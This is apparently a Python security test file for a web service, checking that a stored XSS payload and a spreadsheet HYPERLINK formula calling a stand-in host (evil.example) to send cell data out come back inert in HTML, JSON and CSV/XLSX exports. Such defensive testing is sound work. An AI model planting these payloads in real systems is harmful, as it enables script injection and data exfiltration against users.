"""Attacks 11 and 21: script and formulas in any text come back as the data they are."""

import io
import json
from functools import partial
from typing import Any

from httpx import AsyncClient, Response
from openpyxl import load_workbook

from layers.spreadsheets import FORMULA_STARTS
from tests.attacks.conftest import Victim
from tests.attacks.operations import Operation
from tests.attacks.sampling import Sampler
from tests.attacks.test_injection import ids_for

SCRIPT = '<script>alert(1)</script><img src=x onerror="alert(2)">'
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


async def plant(victim: Victim, every: list[Operation], text: str) -> list[str]:
    """Write the text wherever it is taken; gives the operations that took it."""
    took = []
    for operation in every:
        if operation.method != "POST" or operation.body is None:
            continue
        if operation.function in {"identity", "health"}:
            continue
        sampler = Sampler(
            operation.document,
            text,
            partial(victim.world.first, operation.function),
            full=True,
        )
        answer = await operation.send(victim.client, sampler, ids_for(victim, operation))
        if answer.status_code < 300:
            took.append(str(operation))
    victim.world.harvest()
    return took


async def answers(victim: Victim, every: list[Operation]) -> list[tuple[Operation, Response]]:
    """Read everything the victim can read."""
    return [
        (
            operation,
            await operation.send(
                victim.client, Sampler(operation.document), ids_for(victim, operation)
            ),
        )
        for operation in every
        if operation.method == "GET"
    ]


async def test_script_comes_back_as_text_that_no_browser_runs(
    victim: Victim, every: list[Operation]
) -> None:
    victim.world.owner.execute(
        "UPDATE parties SET name = %s WHERE tenant_id = %s",
        [SCRIPT, victim.world.actor.tenant_id],
    )
    await plant(victim, every, SCRIPT)
    seen = 0
    for operation, answer in await answers(victim, every):
        kind = answer.headers.get("content-type", "")
        if "html" in kind or "svg" in kind:
            assert SCRIPT not in answer.text, str(operation)
        if kind.startswith("application/json"):
            seen += SCRIPT in json.dumps(answer.json(), ensure_ascii=False).replace('\\"', '"')
    assert seen > 0


async def test_formulas_leave_in_exports_as_text(victim: Victim, every: list[Operation]) -> None:
    victim.world.owner.execute(
        "UPDATE parties SET name = %s WHERE tenant_id = %s",
        [FORMULA, victim.world.actor.tenant_id],
    )
    await plant(victim, every, FORMULA)
    exports = [o for o in every if o.method == "GET" and "format" in o.query_names()]
    assert exports
    found = 0
    for operation in exports:
        for wanted in ("csv", "xlsx"):
            found += await check_export(
                victim.client, operation, ids_for(victim, operation), wanted
            )
    assert found > 0


async def check_export(
    client: AsyncClient, operation: Operation, ids: dict[str, str], wanted: str
) -> int:
    """Read an export as a spreadsheet does; gives how many formulas it holds as text."""
    answer = await operation.send(
        client, Sampler(operation.document), ids, query={"format": wanted}
    )
    assert answer.status_code < 500, (str(operation), answer.text)
    kind = answer.headers.get("content-type", "")
    if answer.status_code != 200:
        return 0
    if kind.startswith("text/csv"):
        return _defused_in_csv(str(operation), answer.text)
    if "spreadsheetml" in kind:
        return _defused_in_xlsx(str(operation), answer.content)
    return 0


def _defused_in_csv(name: str, text: str) -> int:
    import csv

    found = 0
    for row in csv.reader(io.StringIO(text.removeprefix("\ufeff"))):
        for cell in row:
            found += "HYPERLINK" in cell
            number = cell.lstrip("-").replace(".", "", 1).isdigit()
            assert number or not cell.lstrip(" ").startswith(FORMULA_STARTS), (name, cell)
    return found


def _defused_in_xlsx(name: str, content: bytes) -> int:
    cells: list[Any] = [
        cell
        for sheet in load_workbook(io.BytesIO(content)).worksheets
        for row in sheet.iter_rows()
        for cell in row
    ]
    assert [cell.value for cell in cells if cell.data_type == "f"] == [], name
    assert [cell.value for cell in cells if cell.hyperlink] == [], name
    return sum("HYPERLINK" in str(cell.value) for cell in cells)
